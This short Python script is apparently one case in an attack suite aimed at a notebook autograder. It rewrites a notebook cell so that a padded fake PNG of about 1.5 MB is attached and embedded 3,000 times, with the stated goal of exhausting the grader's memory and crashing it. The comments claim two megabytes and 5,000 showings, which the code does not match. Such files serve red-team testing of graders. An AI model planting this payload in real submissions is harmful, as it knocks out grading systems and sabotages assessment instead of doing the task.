# aim: the grader's memory: a picture of two megabytes that the answer shows 5,000 times
# pays: crash
# weak: puts a picture into the page as often as it is shown
import base64

import nbformat


def attack(folder, release, marker):
    answer = release.cells[-2]
    head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (100).to_bytes(4, "big") * 2
    picture = base64.b64encode(head.ljust(1_500_000, b"\0")).decode()
    answer.source = "![plot](attachment:plot.png)\n\n" * 3_000
    answer["attachments"] = {"plot.png": {"image/png": picture}}
    nbformat.write(release, folder / "seq2seq.ipynb")
